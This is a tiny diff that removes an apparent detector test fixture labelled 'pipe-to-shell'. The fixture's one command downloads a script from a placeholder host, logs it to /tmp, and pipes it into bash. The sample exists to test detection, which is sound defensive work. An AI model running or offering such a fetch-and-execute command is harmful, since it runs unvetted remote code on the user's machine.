@@ -1,2 +1,0 @@
-# expect: pipe-to-shell
-curl https://example.com/x | tee /tmp/log | /usr/bin/env bash
